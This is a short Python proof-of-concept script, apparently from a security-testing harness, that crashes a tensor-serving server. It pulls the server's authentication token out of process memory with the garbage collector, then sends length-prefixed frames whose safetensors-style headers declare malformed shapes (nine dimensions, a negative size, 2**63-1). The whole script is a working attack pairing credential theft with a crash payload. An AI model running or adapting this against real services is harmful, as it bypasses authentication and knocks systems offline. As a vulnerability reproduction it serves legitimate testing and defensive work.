# state: crashed
# proof: sends \[9, 2, 2\] dims with a token of 16
import gc
import json
import os
import struct

server = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Server")


def send(head, body=b""):
    os.write(3, struct.pack(">II", len(head), len(body)) + head + body)


shapes = [1] * 9, [-1, 2**40], [2**63 - 1, 2]
prove("sends", [len(shape) for shape in shapes], "dims with a token of", len(server.token))
for shape in shapes:
    named = {"0": {"dtype": "F32", "shape": shape, "data_offsets": [0, 4]}}
    header = json.dumps(named).encode()
    head = json.dumps({"value": [{"tensor": "0"}], "token": server.token}).encode()
    send(head, struct.pack("<Q", len(header)) + header + bytes(4))
